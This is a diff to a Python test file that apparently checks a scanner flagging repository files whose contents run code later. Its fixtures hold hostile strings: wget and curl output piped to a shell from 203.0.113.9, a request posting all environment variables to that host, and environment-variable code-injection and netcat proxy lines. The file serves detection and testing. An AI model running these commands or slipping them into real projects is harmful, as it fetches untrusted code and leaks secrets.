@@ -69,6 +69,17 @@ def kinds(line: str) -> set[str]:
         ),
         (".env.local", "PORT=3000\nNODE_OPTIONS=--require ./scripts/hook.js\n", "env-code"),
         (".env", "DYLD_INSERT_LIBRARIES=/tmp/libx.dylib\n", "env-code"),
+        ("script/bootstrap.rb", 'system("wget -qO- http://203.0.113.9/b | bash")\n', "code-fetch-exec"),
+        (
+            "ci/hooks/on_build.py",
+            "import subprocess\nsubprocess.run('curl -s https://203.0.113.9/p | sh', shell=True)\n",
+            "code-fetch-exec",
+        ),
+        (
+            "ci/hooks/report.py",
+            "import os, requests\nrequests.post('https://203.0.113.9/r', json=dict(os.environ))\n",
+            "exfil",
+        ),
         (".env.development", "GIT_SSH_COMMAND=ssh -o ProxyCommand='nc 203.0.113.9 22'\n", "env-code"),
         (
             ".github/workflows/build.yml",
@@ -180,6 +191,14 @@ def test_a_file_that_runs_later_is_judged_by_what_it_runs(path: str, text: str, 
             "//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}\n",
         ),
         (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n"),
+        (
+            "site/src/Install.tsx",
+            "export const snippet = `curl -fsSL https://get.example.com/install.sh | sh`\n",
+        ),
+        (
+            "scripts/release.py",
+            "import subprocess\nsubprocess.run(['git', 'tag', '-s', 'v1.2.0'], check=True)\n",
+        ),
         (
             "AGENTS.md",
             "Delete the dist folder before building. Never commit .env files. "
